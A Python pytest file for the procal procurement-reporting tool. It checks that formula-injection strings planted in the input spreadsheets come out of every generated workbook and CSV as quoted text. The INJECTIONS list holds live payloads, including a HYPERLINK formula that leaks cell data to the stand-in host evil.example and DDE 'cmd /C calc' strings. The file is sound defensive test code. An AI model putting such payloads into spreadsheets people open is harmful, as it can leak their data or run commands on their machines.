"""Issue 10, kind 2: no live formula in anything procal writes.

Injection strings are planted in every input field of every agency tab (plan, progress,
disbursement), then the whole job runs (`procal run`: ICS, reports/disbursement-*.xlsx, the
write-back workbook) and `procal export` writes the plan report. Every cell of every workbook and
CSV written is scanned: no formula cell anywhere, and every text cell that a spreadsheet program
would read as a formula is a string cell with quotePrefix (CSV: a leading ').
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from procal.cli import app
from sheets_io import SheetsSettings
from sheets_io.safecell import FORMULA_PREFIXES, looks_like_formula, write_cell

ROOT = Path(__file__).resolve().parents[2]
S = SheetsSettings()
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=1+1",
]
PLAN_FIELDS = ["รหัสโครงการ", "หน่วยงาน", "ชื่อโครงการ", "ประเภทงบประมาณ", "แหล่งงบประมาณ",
               "วงเงิน (บาท)", "วิธีจัดซื้อจัดจ้าง", "วันที่ขึ้นโครงการ", "กำหนดลงนามสัญญา",
               "ปรับจำนวนวัน", "อีเมลผู้รับผิดชอบ", "ปฏิทิน", "ไม่ลงปฏิทิน"]


def _three(i: int) -> list[str]:
    """Three injection strings per field, rotating so every string meets several fields."""
    return [INJECTIONS[(3 * i + k) % len(INJECTIONS)] for k in range(3)]


def _text(cell, value: str) -> None:
    """Plant ``value`` as a text cell (as an agency typing it, or a Sheets RAW value)."""
    cell.value = value
    cell.data_type = "s"


def _planted_workbook(path: Path) -> Path:
    wb = openpyxl.load_workbook(ROOT / "examples" / "plans.xlsx")
    plans = wb[S.plans_tab]
    head = [c.value for c in plans[1]]
    template = [c.value for c in plans[2]]  # a good, started (so partly late) e-bidding row
    template[7] = "01/09/2569"
    n = 0
    for i, field_ in enumerate(PLAN_FIELDS):
        for inj in _three(i):
            n += 1
            row = list(template)
            row[0] = f"INJ-{n:03d}"
            r = plans.max_row + 1
            for c, v in enumerate(row, start=1):
                plans.cell(row=r, column=c).value = v
            _text(plans.cell(row=r, column=head.index(field_) + 1), inj)
    # a valid project whose agency and name carry the formula (reaches the late-steps sheet)
    r = plans.max_row + 1
    for c, v in enumerate(template, start=1):
        plans.cell(row=r, column=c).value = v
    _text(plans.cell(row=r, column=1), "INJ-LATE")
    _text(plans.cell(row=r, column=2), INJECTIONS[0])
    _text(plans.cell(row=r, column=3), INJECTIONS[1])

    prog = wb[S.progress_tab]
    for col in range(1, 5):
        for inj in _three(col):
            r = prog.max_row + 1
            for c, v in enumerate(["KK70-001", "tor_and_reference_price", "2026-10-30", ""], 1):
                prog.cell(row=r, column=c).value = v
            _text(prog.cell(row=r, column=col), inj)

    dis = wb[S.disbursement_tab]
    good = [c.value for c in dis[2]]
    for col in range(1, 8):
        for inj in _three(col):
            r = dis.max_row + 1
            for c, v in enumerate(good, start=1):
                dis.cell(row=r, column=c).value = v
            dis.cell(row=r, column=1).value = f"หน่วยงานทดสอบ {r}"
            _text(dis.cell(row=r, column=col), inj)
    # valid lines whose agency / budget-source detail is a formula
    for inj in INJECTIONS:
        r = dis.max_row + 1
        for c, v in enumerate(good, start=1):
            dis.cell(row=r, column=c).value = v
        _text(dis.cell(row=r, column=1), inj)
        _text(dis.cell(row=r, column=3), f"เงินกู้ {inj}")
    wb.save(path)
    return path


def _scan_xlsx(path: Path) -> tuple[int, list[str]]:
    bad, formula_like = [], 0
    wb = openpyxl.load_workbook(path)
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                where = f"{path.name}!{ws.title}!{cell.coordinate} = {cell.value!r}"
                if cell.data_type == "f":
                    bad.append(f"formula cell {where}")
                elif looks_like_formula(cell.value):
                    formula_like += 1
                    if cell.data_type != "s" or not cell.quotePrefix:
                        bad.append(f"formula-like text without quotePrefix {where}")
    return formula_like, bad


def _scan_csv(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [f"{path.name}: {v!r}" for row in csv.reader(fh) for v in row
                if looks_like_formula(v)]


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("inj")
    src = _planted_workbook(tmp / "plans.xlsx")
    (tmp / "procal.toml").write_text(
        f'[targets]\ndirs = ["{(ROOT / "examples" / "targets").as_posix()}"]\n', encoding="utf-8")
    runner = CliRunner()
    res = runner.invoke(app, ["run", str(src), "--config", str(tmp / "procal.toml"),
                              "--out", str(tmp / "out"), "--today", "2026-11-25"])
    assert res.exit_code == 1, res.output  # finished with row errors
    res = runner.invoke(app, ["export", str(src), "--out", str(tmp / "export.xlsx")])
    assert res.exit_code == 1, res.output
    return tmp


def test_every_cell_of_every_workbook_is_text_not_formula(outputs):
    files = sorted(p for p in outputs.rglob("*.xlsx") if p.name != "plans.xlsx")
    names = {p.name for p in files}
    assert {"export.xlsx", "plans.procal.xlsx"} <= names
    assert any(n.startswith("disbursement-") for n in names)
    total, problems = 0, []
    for p in files:
        n, bad = _scan_xlsx(p)
        total += n
        problems += bad
    assert problems == []
    assert total > 20  # the planted strings did reach the outputs


def test_the_report_sheets_named_in_the_issue_carry_the_planted_text(outputs):
    report = next(outputs.rglob("disbursement-*.xlsx"))
    wb = openpyxl.load_workbook(report)
    for sheet in ("หน่วยงาน", "รายประเภทงบ", "ขั้นตอนล่าช้า", "ข้อผิดพลาด"):
        cells = [c for row in wb[sheet].iter_rows() for c in row if looks_like_formula(c.value)]
        assert cells, sheet
        assert all(c.quotePrefix and c.data_type == "s" for c in cells), sheet


def test_csv_write_back_prefixes_formula_text(tmp_path):
    from sheets_io.tables import CsvSource

    src = CsvSource(tmp_path)
    src.write_tabs({"schedule": [[inj, 1] for inj in INJECTIONS]})
    assert _scan_csv(tmp_path / "schedule.csv") == []


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_write_cell_quotes_every_prefix(prefix):
    ws = openpyxl.Workbook().active
    cell = write_cell(ws["A1"], prefix + "1+1")
    assert cell.data_type == "s" and cell.quotePrefix


def test_no_module_writes_worksheet_cells_around_the_safe_writer():
    """Every module that builds a workbook writes its cells through sheets_io.safecell."""
    import re

    offenders = []
    pattern = re.compile(r"\bws\w*\.append\(|\.value\s*=[^=]|\bwrite_rows?\(")
    for pkg in ("sheets_io", "procal", "calendar_sync", "schedule_engine", "web"):
        for path in (ROOT / pkg).rglob("*.py") if (ROOT / pkg).is_dir() else ():
            text = path.read_text(encoding="utf-8")
            if "openpyxl" not in text or path.name == "safecell.py":
                continue
            offenders += [f"{path.relative_to(ROOT)}:{i}" for i, line in
                          enumerate(text.splitlines(), 1) if pattern.search(line)]
    assert offenders == [], ("write xlsx cells with sheets_io.safecell.write_cell / append_row: "
                             + ", ".join(offenders))
